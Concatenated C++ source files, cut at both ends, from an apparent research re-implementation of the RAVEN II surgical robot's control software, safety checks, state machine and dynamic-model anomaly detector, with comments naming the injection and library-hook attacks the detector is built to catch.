  CommandPacket pkt;
  pkt.state = sm_.state();
  pkt.watchdog_bit = watchdog_bit_;
  pkt.dac = dac;
  return encode_command(pkt);
}

}  // namespace rg
