// The RAVEN II control software: the 1 kHz kinematic-chain pipeline of
// paper Fig. 2, re-implemented from its published semantics.
//
// Each cycle:
//   1. read encoder feedback from the USB board  -> mpos, jpos, pos (FK)
//   2. receive an ITP packet from the console    -> pedal, pos_d increment
//   3. run the operational state machine (homing, pedal up/down)
//   4. inverse kinematics                        -> jpos_d, mpos_d
//   5. PID on motor position error               -> torque -> DAC words
//   6. software safety checks on DAC + workspace (the RAVEN baseline)
//   7. serialize the command packet (Byte 0 = state | watchdog toggle)
//
// On any safety violation the software commands zero DACs, drives its
// state machine to E-STOP, and *stops toggling the watchdog bit*, which
// makes the PLC latch E-STOP within its timeout — the documented RAVEN
// reaction.  The returned bytes are handed to the (attackable) USB write
// path by the simulation harness; everything after step 7 is outside the
// software's trust boundary.
#pragma once

#include <array>
#include <cstdint>
#include <optional>
#include <span>

#include "common/clock.hpp"
#include "common/realtime.hpp"
#include "common/robot_state.hpp"
#include "control/pid.hpp"
#include "control/safety.hpp"
#include "control/state_machine.hpp"
#include "dynamics/motor.hpp"
#include "hw/motor_controller.hpp"
#include "hw/usb_packet.hpp"
#include "kinematics/coupling.hpp"
#include "kinematics/raven_kinematics.hpp"
#include "math/filters.hpp"
#include "net/itp_packet.hpp"

namespace rg {

struct ControlConfig {
  std::array<PidGains, 3> gains{
      PidGains{.kp = 0.6, .ki = 2.0, .kd = 0.0015, .output_limit = 0.302, .integral_limit = 0.02},
      PidGains{.kp = 0.6, .ki = 2.0, .kd = 0.0015, .output_limit = 0.302, .integral_limit = 0.02},
      PidGains{.kp = 0.12, .ki = 0.8, .kd = 1.5e-4, .output_limit = 0.207, .integral_limit = 0.02},
  };
  std::array<MotorParams, 3> motors{MotorParams::re40(), MotorParams::re40(),
                                    MotorParams::re30()};
  SafetyConfig safety{};
  MotorChannelConfig channel{};  ///< must match the USB board's config
  /// Wrist/instrument servo (channels 3-5): PD on the wrist motor angles,
  /// which carry the end-effector orientation (unmodelled by the
  /// detector, as in the paper's reduced model).
  double wrist_kp = 0.01;      ///< N*m per rad
  double wrist_kd = 4.5e-4;    ///< N*m per rad/s
  double wrist_torque_constant = 0.0138;  ///< N*m/A (small RE motor)
  TransmissionParams transmission{};
  JointLimits limits = JointLimits::raven_defaults();
  Position rcm_origin{};
  std::uint32_t homing_ticks = 800;
  /// Exponential smoothing for the encoder-derived velocity estimate.
  double velocity_filter_alpha = 0.3;
  /// IK solutions are verified by substituting back through FK; a
  /// residual above this (m) means the kinematic chain is inconsistent
  /// (numerically — or because a malicious libm is drifting sin/cos) and
  /// the software declares IK-fail.
  double ik_verify_tolerance = 1.0e-3;
  /// The software cross-checks the PLC state echoed in feedback packets;
  /// if the hardware reports E-STOP for this many consecutive packets
  /// while the software believes it is operating, the two have desynced
  /// (e.g. a spoofed state on the read path) and the software halts —
  /// the Table I "homing failure" manifestation.
  std::uint32_t plc_desync_limit = 50;

  static ControlConfig raven_defaults() { return ControlConfig{}; }
};

/// Per-cycle introspection snapshot (tests, benches, the graphic
/// simulator's data source).
struct ControlDebug {
  MotorVector mpos_measured{};
  MotorVector mvel_estimate{};
  MotorVector mpos_desired{};
  JointVector jpos_measured{};
  JointVector jpos_desired{};
  Position ee_measured{};
  Position ee_desired{};
  Vec3 torque_command{};
  std::array<std::int16_t, 3> dac_command{};
  bool safety_fault = false;
  std::optional<SafetyViolation> violation{};
  bool ik_failed = false;
  bool itp_dropped = false;  ///< packet rejected (checksum) this cycle
};

class ControlSoftware {
 public:
  explicit ControlSoftware(const ControlConfig& config = ControlConfig::raven_defaults());

  /// Physical start button (shared with the PLC by the harness).
  RG_REALTIME void press_start();

  /// Physical E-STOP button.
  RG_REALTIME void press_estop() noexcept;

  /// One 1 kHz control cycle.  `itp_bytes`: the datagram received this
  /// tick, if any (already past any attack interposer).  `feedback_bytes`:
  /// the USB read from the interface board.  Returns the serialized
  /// command packet to be written to the board.
  [[nodiscard]] RG_REALTIME CommandBytes tick(std::optional<std::span<const std::uint8_t>> itp_bytes,
                                  std::span<const std::uint8_t> feedback_bytes);

  /// Rebind the trig functions used by the kinematic chain — the hook a
  /// malicious libm preload (Table I math attack) grabs.
  void set_math_hooks(const MathHooks& hooks) noexcept { kin_.set_math_hooks(hooks); }

  [[nodiscard]] RobotState state() const noexcept { return sm_.state(); }
  [[nodiscard]] bool safety_fault_latched() const noexcept { return safety_fault_; }
  [[nodiscard]] const std::optional<SafetyViolation>& first_violation() const noexcept {
    return first_violation_;
  }
  [[nodiscard]] const ControlDebug& debug() const noexcept { return debug_; }
  [[nodiscard]] const RavenKinematics& kinematics() const noexcept { return kin_; }
  [[nodiscard]] const CableCoupling& coupling() const noexcept { return coupling_; }
  [[nodiscard]] const ControlConfig& config() const noexcept { return config_; }

 private:
  /// Decode feedback and refresh measured state.
  RG_REALTIME void process_feedback(std::span<const std::uint8_t> feedback_bytes) noexcept;

  /// Decode and apply an ITP packet (pedal edges, desired-pose increments).
  RG_REALTIME void process_itp(std::span<const std::uint8_t> itp_bytes) noexcept;

  /// Latch a safety fault: E-STOP state, zero output, watchdog frozen.
  RG_REALTIME void latch_fault(const SafetyViolation& violation) noexcept;

  ControlConfig config_;
  RavenKinematics kin_;
  CableCoupling coupling_;
  SafetyChecker safety_;
  ControlStateMachine sm_;
  std::array<PidController, 3> pid_;
  std::array<MotorChannel, 3> channels_;
  std::array<Differentiator, 3> mvel_est_;
  std::array<Differentiator, 3> wvel_est_;

  bool watchdog_bit_ = false;
  bool safety_fault_ = false;
  std::optional<SafetyViolation> first_violation_{};

  bool have_feedback_ = false;
  MotorVector mpos_meas_{};
  MotorVector mvel_{};
  Vec3 wrist_meas_{};
  Vec3 wrist_vel_{};
  Vec3 ori_desired_{};
  bool ori_desired_valid_ = false;
  std::uint32_t plc_estop_reports_ = 0;

  bool homing_anchor_valid_ = false;
  MotorVector homing_start_{};
  MotorVector mpos_desired_{};
  bool mpos_desired_valid_ = false;

  Position pos_desired_{};
  bool pos_desired_valid_ = false;
  bool last_pedal_ = false;

  ControlDebug debug_{};
};

}  // namespace rg
