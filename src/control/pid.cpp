#include "control/pid.hpp"

#include <algorithm>

namespace rg {

RG_REALTIME double PidController::update(double error, double measured_velocity) noexcept {
  const double unsaturated_no_i =
      gains_.kp * error - gains_.kd * measured_velocity + gains_.ki * integral_;

  // Conditional integration anti-windup: only integrate when doing so
  // pushes the output back inside the saturation band (or no limit set).
  bool integrate = true;
  if (gains_.output_limit > 0.0) {
    if (unsaturated_no_i > gains_.output_limit && error > 0.0) integrate = false;
    if (unsaturated_no_i < -gains_.output_limit && error < 0.0) integrate = false;
  }
  if (integrate && gains_.ki != 0.0) {
    integral_ += error * dt_;
    if (gains_.integral_limit > 0.0) {
      integral_ = std::clamp(integral_, -gains_.integral_limit, gains_.integral_limit);
    }
  }

  double out = gains_.kp * error - gains_.kd * measured_velocity + gains_.ki * integral_;
  if (gains_.output_limit > 0.0) {
    out = std::clamp(out, -gains_.output_limit, gains_.output_limit);
  }
  return out;
}

}  // namespace rg
