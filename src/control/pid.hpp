// Discrete PID controller with anti-windup, one per motor channel.
//
// The RAVEN control software computes motor torques from a PID law on the
// desired vs. measured motor positions (paper Fig. 2).  Derivative action
// uses the measured velocity ("derivative on measurement") so setpoint
// steps do not kick the torque output.
#pragma once

#include "common/error.hpp"
#include "common/realtime.hpp"

namespace rg {

struct PidGains {
  double kp = 0.0;  ///< N*m per rad of position error
  double ki = 0.0;  ///< N*m per rad*s of integrated error
  double kd = 0.0;  ///< N*m per rad/s of measured velocity
  double output_limit = 0.0;    ///< |torque| saturation, N*m (0 = no limit)
  double integral_limit = 0.0;  ///< |integral state| clamp, rad*s (0 = no limit)
};

class PidController {
 public:
  PidController(const PidGains& gains, double dt) : gains_(gains), dt_(dt) {
    require(dt > 0.0, "PidController dt must be > 0");
    require(gains.output_limit >= 0.0, "output_limit must be >= 0");
    require(gains.integral_limit >= 0.0, "integral_limit must be >= 0");
  }

  /// One control update.  error = setpoint - measurement; measured_velocity
  /// is the measurement's rate (used for the D term).  Returns the
  /// saturated torque command.
  RG_REALTIME double update(double error, double measured_velocity) noexcept;

  RG_REALTIME void reset() noexcept { integral_ = 0.0; }

  [[nodiscard]] double integral_state() const noexcept { return integral_; }
  [[nodiscard]] const PidGains& gains() const noexcept { return gains_; }

 private:
  PidGains gains_;
  double dt_;
  double integral_ = 0.0;
};

}  // namespace rg
