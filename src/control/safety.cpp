#include "control/safety.hpp"

#include <cmath>
#include <cstdlib>

namespace rg {

std::string SafetyViolation::describe() const {
  std::string s;
  switch (kind) {
    case Kind::kDacLimit: s = "DAC limit exceeded on channel "; break;
    case Kind::kWorkspace: s = "desired joint position outside workspace, joint "; break;
    case Kind::kIncrement: s = "user position increment too large, axis "; break;
  }
  s += std::to_string(channel);
  s += " (value ";
  s += std::to_string(value);
  s += ", limit ";
  s += std::to_string(limit);
  s += ")";
  return s;
}

RG_REALTIME std::optional<SafetyViolation> SafetyChecker::check_dac(
    std::span<const std::int16_t> dac) const noexcept {
  const std::size_t n = std::min(dac.size(), config_.dac_limit.size());
  for (std::size_t i = 0; i < n; ++i) {
    if (std::abs(static_cast<int>(dac[i])) > static_cast<int>(config_.dac_limit[i])) {
      return SafetyViolation{SafetyViolation::Kind::kDacLimit, i,
                             static_cast<double>(dac[i]),
                             static_cast<double>(config_.dac_limit[i])};
    }
  }
  return std::nullopt;
}

RG_REALTIME std::optional<SafetyViolation> SafetyChecker::check_joints(
    const JointVector& jpos_desired) const noexcept {
  for (std::size_t i = 0; i < 3; ++i) {
    const JointLimit& lim = config_.workspace.joint(i);
    const double lo = lim.min + config_.workspace_margin * lim.span();
    const double hi = lim.max - config_.workspace_margin * lim.span();
    if (jpos_desired[i] < lo || jpos_desired[i] > hi) {
      return SafetyViolation{SafetyViolation::Kind::kWorkspace, i, jpos_desired[i],
                             jpos_desired[i] < lo ? lo : hi};
    }
  }
  return std::nullopt;
}

RG_REALTIME std::optional<SafetyViolation> SafetyChecker::check_increment(
    const Vec3& pos_increment) const noexcept {
  const double mag = pos_increment.norm();
  if (mag > config_.max_pos_increment) {
    return SafetyViolation{SafetyViolation::Kind::kIncrement, 0, mag,
                           config_.max_pos_increment};
  }
  return std::nullopt;
}

}  // namespace rg
