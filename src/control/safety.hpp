// The RAVEN II software safety checks — the *baseline* detector of the
// paper (Table IV, "RAVEN" rows).
//
// Per the paper: "These safety checks compare the electrical current
// commands sent to the digital to analog converters (DACs) with a set of
// pre-defined thresholds to ensure the motors and arm joints do not move
// beyond their safety limits."  They are threshold checks on the values
// the software *computed*, applied at the last software step before the
// USB write — which is exactly why a post-check (TOCTOU) injection
// bypasses them, and why they only fire after a physical disturbance has
// already corrupted the feedback enough for the PID to command large
// DACs itself.
#pragma once

#include <array>
#include <cstdint>
#include <optional>
#include <span>
#include <string>

#include "common/realtime.hpp"
#include "common/units.hpp"
#include "kinematics/joint_limits.hpp"
#include "kinematics/types.hpp"

namespace rg {

struct SafetyConfig {
  /// |DAC| threshold per modelled channel (counts).  Sized so routine
  /// teleoperation transients (~2000 counts) never approach it; it fires
  /// when the PID is straining against a corrupted physical state — the
  /// paper's observation that RAVEN's checks only react "until the
  /// physical system state is corrupted to a point where the PID control
  /// cannot fix the errors anymore".
  std::array<std::int16_t, kNumBoardChannels> dac_limit{26000, 26000, 26000, 26000,
                                                        26000, 26000, 26000, 26000};
  /// Desired-joint-position workspace (checked with this margin inside
  /// the mechanical limits, rad / m).
  JointLimits workspace = JointLimits::raven_defaults();
  double workspace_margin = 0.01;
  /// Per-packet limit on the magnitude of a user position increment (m).
  /// 1 kHz * 1 mm = 1 m/s commanded tool speed — far beyond surgical use.
  double max_pos_increment = 1.0e-3;
};

struct SafetyViolation {
  enum class Kind : std::uint8_t { kDacLimit, kWorkspace, kIncrement };
  Kind kind = Kind::kDacLimit;
  std::size_t channel = 0;  ///< offending channel/joint (0 for kIncrement)
  double value = 0.0;
  double limit = 0.0;

  [[nodiscard]] std::string describe() const;
};

class SafetyChecker {
 public:
  explicit SafetyChecker(const SafetyConfig& config = {}) : config_(config) {}

  /// Check the DAC words about to be written to the board.
  [[nodiscard]] RG_REALTIME std::optional<SafetyViolation> check_dac(
      std::span<const std::int16_t> dac) const noexcept;

  /// Check a desired joint configuration against the workspace.
  [[nodiscard]] RG_REALTIME std::optional<SafetyViolation> check_joints(
      const JointVector& jpos_desired) const noexcept;

  /// Check a user position increment.
  [[nodiscard]] RG_REALTIME std::optional<SafetyViolation> check_increment(
      const Vec3& pos_increment) const noexcept;

  [[nodiscard]] const SafetyConfig& config() const noexcept { return config_; }

 private:
  SafetyConfig config_;
};

}  // namespace rg
