// The RAVEN II operational state machine (paper Fig. 1(c)).
//
//   E-STOP --start--> Init --homing done--> Pedal Up <--pedal--> Pedal Down
//      ^                                                             |
//      +----------- estop button / software fault / watchdog --------+
//
// The control software runs this machine; the PLC mirrors it via Byte 0
// of every command packet.
#pragma once

#include <cstdint>

#include "common/realtime.hpp"
#include "common/robot_state.hpp"

namespace rg {

class ControlStateMachine {
 public:
  /// homing_ticks: duration of the Init (homing) phase in control ticks.
  explicit ControlStateMachine(std::uint32_t homing_ticks = 1000)
      : homing_ticks_(homing_ticks) {}

  [[nodiscard]] RG_REALTIME RobotState state() const noexcept { return state_; }

  /// Physical start button: leaves E-STOP and begins initialization.
  RG_REALTIME void press_start() noexcept {
    if (state_ == RobotState::kEStop) {
      state_ = RobotState::kInit;
      homing_elapsed_ = 0;
    }
  }

  /// Emergency stop (button, PLC latch, or software fault).
  RG_REALTIME void trigger_estop() noexcept { state_ = RobotState::kEStop; }

  /// Foot pedal edge from the console.
  RG_REALTIME void set_pedal(bool pedal_down) noexcept {
    if (state_ == RobotState::kPedalUp && pedal_down) {
      state_ = RobotState::kPedalDown;
    } else if (state_ == RobotState::kPedalDown && !pedal_down) {
      state_ = RobotState::kPedalUp;
    }
  }

  /// One control tick; advances homing progress during Init.
  RG_REALTIME void tick() noexcept {
    if (state_ == RobotState::kInit) {
      if (++homing_elapsed_ >= homing_ticks_) state_ = RobotState::kPedalUp;
    }
  }

  /// Homing progress in [0, 1] (1 outside Init).
  [[nodiscard]] RG_REALTIME double homing_progress() const noexcept {
    if (state_ != RobotState::kInit) return 1.0;
    if (homing_ticks_ == 0) return 1.0;
    return static_cast<double>(homing_elapsed_) / static_cast<double>(homing_ticks_);
  }

  [[nodiscard]] std::uint32_t homing_ticks() const noexcept { return homing_ticks_; }

 private:
  RobotState state_ = RobotState::kEStop;
  std::uint32_t homing_ticks_;
  std::uint32_t homing_elapsed_ = 0;
};

}  // namespace rg
