#include "core/detector.hpp"

#include <algorithm>

namespace rg {

RG_REALTIME RG_DETERMINISTIC Verdict AnomalyDetector::evaluate(const Prediction& pred) const noexcept {
  Verdict v;
  if (!pred.valid) return v;

  const DetectionThresholds& th = config_.thresholds;
  double worst_ratio = 0.0;
  // Flags are per-variable, over any axis: an attack on one channel
  // should not be diluted by the two healthy axes.
  for (std::size_t i = 0; i < 3; ++i) {
    const double rv = th.motor_vel[i] > 0.0 ? pred.motor_instant_vel[i] / th.motor_vel[i] : 0.0;
    const double ra = th.motor_acc[i] > 0.0 ? pred.motor_instant_acc[i] / th.motor_acc[i] : 0.0;
    const double rj = th.joint_vel[i] > 0.0 ? pred.joint_instant_vel[i] / th.joint_vel[i] : 0.0;
    if (rv > 1.0) v.motor_vel_flag = true;
    if (ra > 1.0) v.motor_acc_flag = true;
    if (rj > 1.0) v.joint_vel_flag = true;
    const double axis_worst = std::max({rv, ra, rj});
    if (axis_worst > worst_ratio) {
      worst_ratio = axis_worst;
      v.worst_axis = i;
    }
  }

  const int votes = static_cast<int>(v.motor_vel_flag) + static_cast<int>(v.motor_acc_flag) +
                    static_cast<int>(v.joint_vel_flag);
  switch (config_.fusion) {
    case FusionPolicy::kAllThree: v.alarm = votes == 3; break;
    case FusionPolicy::kTwoOfThree: v.alarm = votes >= 2; break;
    case FusionPolicy::kAnyVariable: v.alarm = votes >= 1; break;
  }

  if (config_.ee_jump_limit > 0.0 && pred.ee_displacement > config_.ee_jump_limit) {
    v.ee_jump_flag = true;
    v.alarm = true;
  }
  return v;
}

}  // namespace rg
