// The dynamic-model-based anomaly detector.
//
// Paper Sec. IV.C: "the detector fuses the alarms based on the motor
// acceleration, motor velocity, and joint velocity and raises an alert
// only when all three variables indicate an abnormality" — fusion
// suppresses false alarms from model inaccuracy and trajectory noise.
// The all-three rule is the paper's; kAnyVariable and kTwoOfThree exist
// for the ablation bench.
#pragma once

#include <cstdint>
#include <string_view>

#include "common/realtime.hpp"
#include "core/estimator.hpp"
#include "core/thresholds.hpp"

namespace rg {

enum class FusionPolicy : std::uint8_t {
  kAllThree,   ///< paper's rule: motor vel AND motor acc AND joint vel
  kTwoOfThree,
  kAnyVariable,
};

constexpr std::string_view to_string(FusionPolicy p) noexcept {
  switch (p) {
    case FusionPolicy::kAllThree: return "all-3";
    case FusionPolicy::kTwoOfThree: return "2-of-3";
    case FusionPolicy::kAnyVariable: return "any-1";
  }
  return "unknown";
}

struct DetectorConfig {
  DetectionThresholds thresholds{};
  FusionPolicy fusion = FusionPolicy::kAllThree;
  /// Optional extra guard: alarm outright if the predicted end-effector
  /// displacement in one step exceeds this (m); 0 disables.  The paper's
  /// safety goal — no >1 mm jump within 1–2 ms — motivates the default.
  double ee_jump_limit = 1.0e-3;
};

/// Per-command verdict.
struct Verdict {
  bool alarm = false;
  bool motor_vel_flag = false;
  bool motor_acc_flag = false;
  bool joint_vel_flag = false;
  bool ee_jump_flag = false;
  std::size_t worst_axis = 0;  ///< axis with the largest threshold ratio
};

class AnomalyDetector {
 public:
  explicit AnomalyDetector(const DetectorConfig& config = {}) : config_(config) {}

  /// Evaluate one prediction.  Invalid predictions (estimator not yet
  /// synchronized) never alarm.
  [[nodiscard]] RG_REALTIME Verdict evaluate(const Prediction& pred) const noexcept;

  [[nodiscard]] const DetectorConfig& config() const noexcept { return config_; }
  void set_thresholds(const DetectionThresholds& thresholds) noexcept {
    config_.thresholds = thresholds;
  }

 private:
  DetectorConfig config_;
};

}  // namespace rg
