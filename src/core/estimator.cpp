#include "core/estimator.hpp"

#include <cmath>

#include "obs/span.hpp"

namespace rg {

DynamicModelEstimator::DynamicModelEstimator(const EstimatorConfig& config)
    : config_(config),
      model_(config.model),
      kin_(config.rcm_origin, config.model.hard_stop_limits),
      channel_(config.channel) {
  require(config.step > 0.0, "estimator step must be > 0");
  require(config.observer_position_gain >= 0.0 && config.observer_position_gain <= 1.0,
          "observer_position_gain in [0,1]");
  require(config.observer_velocity_gain >= 0.0, "observer_velocity_gain must be >= 0");
  // Fail at configuration time, not inside the noexcept hot path.
  validate_solver(config.solver);
}

RG_REALTIME RG_DETERMINISTIC void DynamicModelEstimator::observe_feedback(const MotorVector& encoder_angles) noexcept {
  cache_valid_ = false;  // the correction moves state_ out from under the cache
  if (!have_feedback_) {
    // Hard sync on the first observation: positions from encoders, rates
    // zero (the robot is at rest when the monitor comes up).
    RavenDynamicsModel::set_motor_pos(state_, encoder_angles);
    RavenDynamicsModel::set_motor_vel(state_, Vec3::zero());
    RavenDynamicsModel::set_joint_pos(state_, model_.coupling().motor_to_joint(encoder_angles));
    RavenDynamicsModel::set_joint_vel(state_, Vec3::zero());
    have_feedback_ = true;
    return;
  }

  // Luenberger-style correction: nudge the parallel model toward the
  // measured motor positions; joints are corrected through the
  // transmission map (no joint encoders on RAVEN).
  const double l1 = config_.observer_position_gain;
  const double l2 = config_.observer_velocity_gain;

  const MotorVector mpos = RavenDynamicsModel::motor_pos(state_);
  const Vec3 err = encoder_angles - mpos;
  RavenDynamicsModel::set_motor_pos(state_, mpos + l1 * err);
  RavenDynamicsModel::set_motor_vel(state_, RavenDynamicsModel::motor_vel(state_) + l2 * err);

  const JointVector jpos_meas = model_.coupling().motor_to_joint(encoder_angles);
  const JointVector jpos = RavenDynamicsModel::joint_pos(state_);
  const Vec3 jerr = jpos_meas - jpos;
  RavenDynamicsModel::set_joint_pos(state_, jpos + l1 * jerr);
  RavenDynamicsModel::set_joint_vel(state_,
                                    RavenDynamicsModel::joint_vel(state_) + l2 * jerr);
}

RG_REALTIME Vec3 DynamicModelEstimator::currents_from_dac(
    const std::array<std::int16_t, 3>& dac) const noexcept {
  Vec3 currents;
  for (std::size_t i = 0; i < 3; ++i) currents[i] = channel_.current_from_dac(dac[i]);
  return currents;
}

RG_REALTIME RG_DETERMINISTIC PendingSolve DynamicModelEstimator::begin_predict(
    const std::array<std::int16_t, 3>& dac) const noexcept {
  PendingSolve pending;
  if (!have_feedback_) return pending;
  pending.x0 = state_;
  pending.currents = currents_from_dac(dac);
  pending.h = config_.step;
  pending.solver = config_.solver;
  pending.active = true;
  return pending;
}

RG_REALTIME RG_DETERMINISTIC RavenDynamicsModel::State DynamicModelEstimator::solve(const PendingSolve& pending) noexcept {
  RG_SPAN("estimator.solve");
  ++solves_;
  return model_.step(pending.x0, pending.currents, pending.h, pending.solver);
}

RG_REALTIME RG_DETERMINISTIC Prediction DynamicModelEstimator::finish_predict(const std::array<std::int16_t, 3>& dac,
                                                 const RavenDynamicsModel::State& next) noexcept {
  Prediction pred;
  if (!have_feedback_) return pred;

  pred.mpos_now = RavenDynamicsModel::motor_pos(state_);
  pred.mvel_now = RavenDynamicsModel::motor_vel(state_);
  pred.jpos_now = RavenDynamicsModel::joint_pos(state_);

  pred.mpos_next = RavenDynamicsModel::motor_pos(next);
  pred.mvel_next = RavenDynamicsModel::motor_vel(next);
  pred.jpos_next = RavenDynamicsModel::joint_pos(next);
  pred.jvel_next = RavenDynamicsModel::joint_vel(next);

  const double inv_dt = 1.0 / config_.step;
  for (std::size_t i = 0; i < 3; ++i) {
    pred.motor_instant_vel[i] = std::abs(pred.mpos_next[i] - pred.mpos_now[i]) * inv_dt;
    pred.motor_instant_acc[i] = std::abs(pred.mvel_next[i] - pred.mvel_now[i]) * inv_dt;
    pred.joint_instant_vel[i] = std::abs(pred.jpos_next[i] - pred.jpos_now[i]) * inv_dt;
  }
  pred.ee_displacement = distance(kin_.forward(pred.jpos_next), kin_.forward(pred.jpos_now));
  pred.valid = true;

  cached_next_ = next;
  cached_dac_ = dac;
  cache_valid_ = true;
  return pred;
}

RG_REALTIME RG_DETERMINISTIC Prediction DynamicModelEstimator::predict(const std::array<std::int16_t, 3>& dac) noexcept {
  const PendingSolve pending = begin_predict(dac);
  if (!pending.active) return Prediction{};
  return finish_predict(dac, solve(pending));
}

RG_REALTIME RG_DETERMINISTIC void DynamicModelEstimator::commit(const std::array<std::int16_t, 3>& dac) noexcept {
  if (!have_feedback_) return;
  if (cache_valid_ && cached_dac_ == dac) {
    // The command that executed is the one predict() screened: the
    // tentative integration *is* the parallel-model update.  Reusing it
    // halves the estimator's per-tick model solves.
    state_ = cached_next_;
    cache_valid_ = false;
    return;
  }
  // Mitigation replaced the command (or predict was skipped): integrate
  // the executed command from scratch.
  cache_valid_ = false;
  state_ = solve(PendingSolve{state_, currents_from_dac(dac), config_.step, config_.solver,
                              /*active=*/true});
}

RG_REALTIME void DynamicModelEstimator::reset() noexcept {
  state_ = RavenDynamicsModel::State{};
  have_feedback_ = false;
  cache_valid_ = false;
  solves_ = 0;
}

}  // namespace rg
