// Real-time one-step-ahead state estimation — the dynamic model at the
// centre of the paper's detection framework.
//
// The model runs *in parallel* with the robot (paper Fig. 8: "running the
// model in parallel with the physical system and both receiving the same
// control input"): its state evolves continuously under the executed DAC
// commands, with a gentle Luenberger-style correction toward the encoder
// feedback.  The soft correction matters: a hard per-tick resync would
// inject encoder-quantization noise straight into the predicted
// accelerations and force uselessly loose detection thresholds.
//
// For each candidate command the estimator integrates one control period
// forward (tentatively) and reports the paper's detection variables:
//
//   instant velocity  = (predicted position - current position) / dt
//   instant accel     = (predicted velocity - current velocity) / dt
//
// After screening, the pipeline *commits* the command that actually
// executed (original or mitigated), advancing the parallel model.
//
// The estimator deliberately runs a calibrated-but-imperfect copy of the
// physics (the paper tuned coefficients by hand against the robot):
// residual model error is what forces non-trivial thresholds.
#pragma once

#include <array>
#include <cstdint>

#include "common/clock.hpp"
#include "common/realtime.hpp"
#include "dynamics/raven_model.hpp"
#include "hw/motor_controller.hpp"
#include "hw/usb_packet.hpp"
#include "kinematics/raven_kinematics.hpp"
#include "ode/integrators.hpp"

namespace rg {

struct EstimatorConfig {
  /// The detector's model of the robot (typically built with
  /// RavenDynamicsParams::with_calibration_error to differ from the
  /// physical plant).
  RavenDynamicsParams model = RavenDynamicsParams::raven_defaults();
  /// Integration scheme and step — the Fig. 8 trade-off axis.
  SolverKind solver = SolverKind::kEuler;
  double step = kControlPeriodSec;
  /// DAC/encoder conversions (must match the interface board).
  MotorChannelConfig channel{};
  /// Observer correction gains: position fraction per tick, and velocity
  /// correction per unit position error per second.
  double observer_position_gain = 0.2;
  double observer_velocity_gain = 40.0;
  /// Kinematics for end-effector displacement prediction.
  Position rcm_origin{};
};

/// Snapshot of one deferred model integration: everything needed to turn
/// the estimator's current state into its one-step-ahead state.  Produced
/// by DynamicModelEstimator::begin_predict and consumed either by the
/// scalar DynamicModelEstimator::solve or — for homogeneous campaign
/// batches — by a BatchRavenModel solving many sims' pendings lane-wise
/// (sim/lockstep.hpp).  `active` is false while the estimator has no
/// encoder feedback yet (nothing to integrate; the prediction is invalid).
struct PendingSolve {
  RavenDynamicsModel::State x0{};
  Vec3 currents{};
  double h = 0.0;
  SolverKind solver = SolverKind::kEuler;
  bool active = false;
};

/// One-step-ahead prediction produced for every DAC command.
struct Prediction {
  MotorVector mpos_now{};
  MotorVector mvel_now{};
  JointVector jpos_now{};
  MotorVector mpos_next{};
  MotorVector mvel_next{};
  JointVector jpos_next{};
  JointVector jvel_next{};
  /// Detection variables (per axis, absolute values).
  Vec3 motor_instant_vel{};  ///< rad/s
  Vec3 motor_instant_acc{};  ///< rad/s^2
  Vec3 joint_instant_vel{};  ///< rad/s (m/s for axis 2)
  /// Predicted end-effector displacement over the step (m).
  double ee_displacement = 0.0;
  bool valid = false;  ///< false until the estimator has feedback
};

class DynamicModelEstimator {
 public:
  explicit DynamicModelEstimator(const EstimatorConfig& config = {});

  /// Feed the encoder angles observed this cycle (the same feedback the
  /// control software read).  First call hard-syncs; later calls apply
  /// the soft observer correction.
  RG_REALTIME void observe_feedback(const MotorVector& encoder_angles) noexcept;

  /// Predict the physical consequence of executing `dac` (the modelled
  /// channels of the command packet about to be written).  Tentative —
  /// does not advance the parallel model.
  [[nodiscard]] RG_REALTIME Prediction predict(const std::array<std::int16_t, 3>& dac) noexcept;

  /// Convenience: predict from a decoded command packet.
  [[nodiscard]] RG_REALTIME Prediction predict(const CommandPacket& cmd) noexcept {
    return predict({cmd.dac[0], cmd.dac[1], cmd.dac[2]});
  }

  // --- deferred-solve decomposition of predict() ---------------------------
  // predict(dac) == finish_predict(dac, solve(begin_predict(dac))).  The
  // split lets the lockstep campaign engine gather many sims'
  // begin_predict snapshots, integrate them in one batched SoA solve, and
  // hand each sim its lane back through finish_predict.

  /// Snapshot the inputs of the one-step integration for `dac`.  Does not
  /// touch estimator state.  `active` is false without feedback.
  [[nodiscard]] RG_REALTIME PendingSolve begin_predict(const std::array<std::int16_t, 3>& dac) const noexcept;

  /// Run one deferred integration (the scalar path).  Counted in solves().
  [[nodiscard]] RG_REALTIME RavenDynamicsModel::State solve(const PendingSolve& pending) noexcept;

  /// Derive the detection variables from the solved next-state and cache
  /// it, so a commit() of the same `dac` reuses the solution instead of
  /// re-integrating (the predict/commit pair costs one solve per tick).
  [[nodiscard]] RG_REALTIME Prediction finish_predict(const std::array<std::int16_t, 3>& dac,
                                          const RavenDynamicsModel::State& next) noexcept;

  /// Advance the parallel model with the command that actually executed
  /// (the screened original, or the mitigator's replacement).
  RG_REALTIME void commit(const std::array<std::int16_t, 3>& dac) noexcept;

  /// The brakes have engaged: the plant is locked, so the parallel model
  /// is stale.  The next observe_feedback() performs a hard re-sync.
  RG_REALTIME void mark_disengaged() noexcept {
    have_feedback_ = false;
    cache_valid_ = false;
  }

  void reset() noexcept;

  [[nodiscard]] const RavenDynamicsModel& model() const noexcept { return model_; }
  [[nodiscard]] const EstimatorConfig& config() const noexcept { return config_; }
  /// Current parallel-model state (tests / Fig-8 validation).
  [[nodiscard]] const RavenDynamicsModel::State& state() const noexcept { return state_; }
  [[nodiscard]] bool has_feedback() const noexcept { return have_feedback_; }
  /// Scalar one-step model integrations performed so far (tests assert a
  /// screened tick costs one, not two).  Batched lockstep solves bypass
  /// this counter — they never call solve().
  [[nodiscard]] std::uint64_t solves() const noexcept { return solves_; }

 private:
  [[nodiscard]] RG_REALTIME Vec3 currents_from_dac(const std::array<std::int16_t, 3>& dac) const noexcept;

  EstimatorConfig config_;
  RavenDynamicsModel model_;
  RavenKinematics kin_;
  MotorChannel channel_;
  RavenDynamicsModel::State state_{};
  bool have_feedback_ = false;
  // commit() fast path: the next-state solved by the last finish_predict,
  // keyed by the command it was solved for.  Any state mutation between
  // predict and commit (feedback, disengage, reset) invalidates it.
  RavenDynamicsModel::State cached_next_{};
  std::array<std::int16_t, 3> cached_dac_{};
  bool cache_valid_ = false;
  std::uint64_t solves_ = 0;
};

}  // namespace rg
