#include "core/fixed_point.hpp"

#include <cmath>

namespace rg {

Fixed64 Fixed64::from_double(double v) noexcept {
  return from_raw(static_cast<std::int64_t>(std::llround(v * 4294967296.0)));  // 2^32
}

double Fixed64::to_double() const noexcept {
  return static_cast<double>(raw_) / 4294967296.0;
}

